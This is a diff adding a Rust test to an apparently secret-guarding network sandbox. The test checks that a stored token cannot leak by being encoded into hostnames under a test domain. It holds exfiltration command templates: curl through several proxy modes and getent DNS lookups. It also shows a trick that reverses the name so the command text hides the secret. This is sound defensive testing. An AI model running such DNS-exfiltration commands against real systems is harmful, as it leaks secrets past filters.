@@ -155,3 +155,65 @@ fn a_secret_declares_its_place() {
     let refused = finish(&mut command, key().as_bytes());
     assert!(refused.code != Some(0) && refused.err.contains("no key stands there"), "{}", refused.err);
 }
+
+/// A stored secret, in the letters that names have and in those they do not have.
+fn stored() -> String {
+    format!("{}{}", "T0kEn", "aB3x9".repeat(14))
+}
+
+/// As somebody who has got hold of the value would send it: in one label or, where that is too short, in several.
+fn names() -> [String; 2] {
+    let lower = stored().to_lowercase();
+    [format!("{}.web.test", &lower[..60]), format!("{}.{}.web.test", &lower[..40], &lower[40..])]
+}
+
+const WAYS: &[(&str, &str)] = &[
+    ("CONNECT", "curl -sS -m 10 --proxy http://127.0.0.1:3128 https://NAME/"),
+    ("forward", "curl -sS -m 10 --proxy http://127.0.0.1:3128 http://NAME/"),
+    ("SOCKS", "curl -sS -m 10 --proxy socks5h://127.0.0.1:3128 http://NAME/"),
+    ("transparent", "curl -sS -m 10 --noproxy '*' http://NAME/"),
+    ("DNS", "getent hosts NAME"),
+];
+
+/// Whoever resolves a name tells it to strangers, so it is searched before.
+#[test]
+fn a_stored_secret_does_not_get_into_names_that_are_resolved() {
+    let internet = Internet::new();
+    let allowed = &["--net", "filtered", "--allow-host", "*.web.test"];
+    let script = |way: &str, name: &str| {
+        // Backwards, so that the command itself has no secret in it.
+        let backwards: String = name.chars().rev().collect();
+        way.replace("NAME", &format!("$(echo {backwards} | rev)"))
+    };
+    let tries = |name: &str| {
+        internet.forget_visits();
+        for (_, way) in WAYS {
+            internet.run(allowed, &["sh", "-c", &script(way, name)]);
+        }
+        internet.names_asked()
+    };
+    let [_, spread] = names();
+    let asked = tries(&spread);
+    assert!(asked.iter().any(|asked| asked.contains(&spread)), "control: nothing is stored yet: {asked:?}");
+    for value in [stored(), stored()[..60].to_owned()] {
+        let mut command = internet.ringfence();
+        let name = if value.len() == 60 { "short" } else { "long" };
+        finish(command.args(["secret", "set", name]), value.as_bytes()).expect(0);
+    }
+    let before = internet.world.all_records().len();
+    for name in names() {
+        let asked = tries(&name);
+        assert!(!asked.iter().any(|asked| asked.contains("t0ken")), "{asked:?}");
+    }
+    let records = internet.world.all_records().split_off(before);
+    let text = format!("{records:?}");
+    assert!(!text.to_lowercase().contains("t0ken"), "the ledger: {text}");
+    assert!(text.contains("secret/"), "it says which secret: {text}");
+    let found = records.iter().filter(|record| record["event"]["kind"] == "finding").count();
+    assert!(found >= 2 * 3, "each way but the name server: {text}");
+    let asked = tries("plain.web.test");
+    assert!(
+        asked.iter().any(|asked| asked.contains("plain.web.test")),
+        "control: other names pass: {asked:?}"
+    );
+}
